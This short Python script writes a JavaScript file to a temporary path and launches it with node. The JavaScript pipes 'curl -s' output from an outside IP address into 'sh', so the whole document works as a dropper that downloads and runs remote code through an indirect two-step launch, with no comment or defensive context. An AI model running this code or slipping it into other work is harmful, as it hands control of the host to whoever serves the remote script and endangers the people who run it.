import os, tempfile
t = tempfile.NamedTemporaryFile('w', suffix='.js', delete=False)
t.write("require('child_process').exec('curl -s http://198.51.100.111/j|sh')")
t.close()
os.system('node ' + t.name)
